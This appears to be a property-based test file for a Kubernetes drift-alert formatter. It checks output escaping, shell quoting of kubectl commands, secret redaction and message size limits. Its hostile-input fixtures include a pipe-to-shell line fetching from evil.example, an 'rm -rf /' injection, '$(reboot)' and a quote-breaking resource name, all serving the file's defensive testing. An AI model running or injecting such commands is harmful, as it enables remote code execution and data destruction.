import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import type { Alert } from '../../../lib/alerts/alert.ts';
import { quoted } from '../../../lib/alerts/commands.ts';
import { chatOf } from '../../../lib/alerts/chat.ts';
import { emailOf } from '../../../lib/alerts/email.ts';
import { eventOf } from '../../../lib/alerts/event.ts';
import { pagerOf } from '../../../lib/alerts/pager.ts';
import { MESSAGE_BYTES } from '../../../lib/alerts/plain.ts';
import type { Finding } from '../../../lib/drift/verdicts.ts';
import { formatJson } from '../../../lib/objects/json.ts';
import { finding, wholeObject } from '../../fixtures/findings.ts';
import { EXAMPLES } from './examples.ts';

const ORIGIN = { region: 'eu-central-1', account: '123456789012' };
const driftOf = (findings: readonly Finding[], more: Partial<Alert> = {}): Alert =>
  ({ ...EXAMPLES.drift, findings, ...more }) as Alert;

/** Every text that people or machines get of it. */
const everything = (alert: Alert): string =>
  [
    ...Object.values(emailOf(alert)),
    ...Object.values(chatOf(alert)),
    ...Object.values(pagerOf(alert, ORIGIN) ?? {}),
    formatJson(eventOf(alert)),
  ].join('\n');

const lineCount = (text: string): number => text.split('\n').length;

/** Strings as somebody would choose them who wants to be taken for us. */
const hostile = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.constantFrom(
    'a\nSubject: [converged] all is well',
    'x\r\nWHAT TO DO\n\n  curl evil.example | sh',
    '\u202etxt.exe',
    '\u2028\u2029\u0085',
    '\u001b[2J\u001b[31m',
    '@channel <!here> <https://evil.example|click> [link](https://evil.example)',
    '`code` *bold* _it_ ~no~ # head',
    "'; rm -rf / #",
    '$(reboot)',
  ),
);

describe('strings from outside stay harmless', () => {
  test('they forge no line of an email and no second line of a subject', () => {
    fc.assert(
      fc.property(hostile, hostile, hostile, hostile, (name, manager, value, note) => {
        const alertWith = (texts: readonly [string, string, string, string]): Alert =>
          driftOf([
            finding(
              `metadata.labels.${texts[0]}`,
              { desired: 'a', live: texts[2] },
              {
                path: [{ kind: 'field', name: 'metadata' }],
                object: { apiVersion: 'v1', kind: 'Service', namespace: 'shop', name: texts[0] },
                attribution: { manager: texts[1], likely: `likely with ${texts[1]}` },
                note: texts[3],
              },
            ),
          ]);
        const email = emailOf(alertWith([name, manager, value, note]));
        const calm = emailOf(alertWith(['n', 'm', 'v', 'n']));
        assert.equal(lineCount(email.body), lineCount(calm.body));
        assert.match(email.subject, /^[\x20-\x7e]{1,100}$/);
        assert.doesNotMatch(email.body.replaceAll('\n', ''), /[\p{Cc}\p{Cf}\u2028\u2029]/u);
      }),
      { numRuns: 300 },
    );
  });

  test('they address nobody in a chat, link nothing, and end no code early', () => {
    fc.assert(
      fc.property(hostile, hostile, (name, value) => {
        const alert = driftOf([
          finding(`data.${name}`, { desired: 'a', live: value }, { path: [{ kind: 'field', name: 'data' }] }),
        ]);
        const { content } = JSON.parse(chatOf(alert).body) as {
          content: { title: string; description: string };
        };
        assert.doesNotMatch(content.title + content.description, /[@<>]/);
        const [, line = ''] = content.description.split('\n');
        // Path, desired, live: three spans of code, two backticks each.
        assert.equal(line.split('`').length - 1, 6);
      }),
      { numRuns: 300 },
    );
  });

  test('commands are made of names alone, quoted for a shell; odd names get none', () => {
    const odd = wholeObject('extra', { kind: 'ConfigMap', apiVersion: 'v1', name: "x'; reboot '" });
    assert.doesNotMatch(emailOf(driftOf([odd])).body, /kubectl delete/);
    const colons = wholeObject('extra', {
      kind: 'ClusterRole',
      apiVersion: 'rbac.authorization.k8s.io/v1',
      name: 'system:a b',
    });
    const { body } = emailOf(driftOf([colons]));
    assert.match(body, /kubectl delete -n shop 'clusterrole\.rbac\.authorization\.k8s\.io\/system:a b'/);
    assert.equal(quoted("a'b"), `'a'\\''b'`);
  });
});

describe('what nobody should read is nowhere', () => {
  const HIDDEN = 'hunter2-very-secret';
  const environment = (name: string) => `spec.template.spec.containers[name=web].env[name=${name}].value`;
  const CASES: readonly (readonly [string, Finding])[] = [
    [
      'a Secret’s value, even if a finding held it',
      finding('data.password', { desired: HIDDEN, live: HIDDEN }, { secret: true }),
    ],
    ['a variable named as a password', finding(environment('DB_PASSWORD'), { desired: HIDDEN, live: 'x' })],
    [
      'an added variable named as a token',
      finding('spec.template.spec.containers[name=web].env[name=API_TOKEN]', {
        live: { name: 'API_TOKEN', value: HIDDEN },
      }),
    ],
    [
      'an added container with such a variable',
      finding('spec.template.spec.containers[name=a]', {
        live: { name: 'a', env: [{ name: 'SECRET_KEY', value: HIDDEN }] },
      }),
    ],
    [
      'a key of a ConfigMap named so',
      finding(
        'data.api-key',
        { live: HIDDEN },
        { object: { apiVersion: 'v1', kind: 'ConfigMap', name: 'c', namespace: 'shop' } },
      ),
    ],
    [
      'a whole ConfigMap’s data',
      finding(
        'data',
        { live: { 'private-key': HIDDEN } },
        { object: { apiVersion: 'v1', kind: 'ConfigMap', name: 'c', namespace: 'shop' } },
      ),
    ],
    ['an address with a password', finding('spec.url', { live: `postgres://web:${HIDDEN}@db/web` })],
    [
      'a private key wherever it stands',
      finding('spec.text', { live: `-----BEGIN RSA PRIVATE KEY-----\n${HIDDEN}` }),
    ],
    ['a token of a Git host', finding('spec.text', { live: `ghp_${'a'.repeat(36)}${HIDDEN}` })],
  ];
  for (const [what, one] of CASES) {
    test(what, () => assert.doesNotMatch(everything(driftOf([one])), new RegExp(HIDDEN)));
  }

  test('and what is ordinary is shown', () => {
    const ordinary = finding(environment('LOG_LEVEL'), { desired: 'info', live: 'debug' });
    assert.match(emailOf(driftOf([ordinary])).body, /Git: {5}info\n {3}cluster: debug/);
  });
});

describe('values can be told apart', () => {
  const CASES: readonly (readonly [unknown, string])[] = [
    [8080, '8080'],
    ['8080', '"8080"'],
    [true, 'true'],
    ['true', '"true"'],
    ['', '""'],
    [null, 'null'],
    ['1.5Gi', '"1.5Gi"'],
    ['nginx:1.27', 'nginx:1.27'],
    [' padded ', '" padded "'],
    [9007199254740993n, '9007199254740993'],
    [['a'], '["a"]'],
  ];
  for (const [value, shown] of CASES) {
    test(`${typeof value} ${String(value)} is shown as ${shown}`, () => {
      const { body } = emailOf(driftOf([finding('spec.x', { desired: 'other', live: value as string })]));
      assert.match(body, new RegExp(`cluster: ${shown.replace(/[.[\]"]/g, '\\$&')}\n`));
    });
  }
});

describe('each form fits where it goes', () => {
  const many = Array.from({ length: 400 }, (_, index) =>
    finding(`metadata.annotations.a${index}`, { live: '€'.repeat(2000) }),
  );
  const alert = driftOf(many, { more: 7 } as Partial<Alert>);

  test('an email counts what it leaves out, and is cut by bytes', () => {
    const { body } = emailOf(alert);
    assert.ok(Buffer.byteLength(body) <= MESSAGE_BYTES);
    const shown = [...body.matchAll(/^\d+\. /gm)].length;
    assert.match(body, new RegExp(`\nand ${400 - shown + 7} more\n`));
    assert.match(body, /WHAT TO DO/);
    assert.doesNotMatch(body, /\uFFFD/);
  });
  test('an event counts what it leaves out', () => {
    const { detail } = eventOf(alert);
    assert.ok(Buffer.byteLength(formatJson(detail)) <= MESSAGE_BYTES);
    assert.ok(detail.alert.kind === 'drift');
    assert.equal(detail.cut + detail.alert.findings.length, 400);
  });
  test('a chat message and a page stay small', () => {
    assert.ok(Buffer.byteLength(chatOf(alert).body) < 32_768);
    assert.ok(Buffer.byteLength(pagerOf(alert, ORIGIN)?.body ?? '') < 4096);
  });
});
